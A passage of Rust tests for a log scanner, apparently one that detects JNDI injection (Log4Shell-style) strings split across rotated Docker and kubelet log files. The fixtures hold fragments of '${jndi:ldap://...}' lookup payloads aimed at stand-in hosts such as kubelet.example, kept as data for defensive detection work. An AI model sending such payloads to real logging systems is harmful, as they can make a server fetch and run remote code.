    let other = "{\"log\":\"di:ldap://other.example/a}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:01Z\"}\n";
    let c = "c0ffee";
    write_files(
        dir.path(),
        &[
            (&format!("{c}/{c}-json.log.1"), part.as_bytes()),
            (&format!("{c}/{c}-json.log"), rest.as_bytes()),
            // Another container's log starting with the same kind of tail: never joined.
            ("beef/beef-json.log", other.as_bytes()),
        ],
    );
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let hits: Vec<(String, u64, String)> = v["bundles"][0]["log_hits"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["rule"].as_str().unwrap().contains("jndi"))
        .map(|h| {
            (
                h["locator"]["artifact"].as_str().unwrap().to_string(),
                h["locator"]["line"].as_u64().unwrap(),
                h.to_string(),
            )
        })
        .collect();
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].0, format!("{c}/{c}-json.log.1"));
    assert_eq!(hits[0].1, 2, "the line where the message starts, in the older file");
    assert!(hits[0].2.contains("rotated.example"), "{}", hits[0].2);
}

#[test]
fn kubelet_rotated_cri_logs_are_read_oldest_first_and_joined() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("pods/ns_web_1/web/0.log.20261127-140000", b"2026-11-27T13:59:59.000000001Z stdout F start\n2026-11-27T14:00:00.000000001Z stdout P GET /?q=${jn\n"),
            ("pods/ns_web_1/web/0.log", b"2026-11-27T14:00:00.000000002Z stdout F di:ldap://kubelet.example/a}\n"),
        ],
    );
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];
    let kinds: Vec<&str> =
        b["artifacts"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["cri-log", "cri-log"]);
    let h: Vec<String> = b["log_hits"].as_array().unwrap().iter().map(|h| h.to_string()).collect();
    assert_eq!(h.len(), 1, "{h:?}");
    assert!(h[0].contains("kubelet.example") && h[0].contains("0.log.20261127-140000"), "{}", h[0]);
}
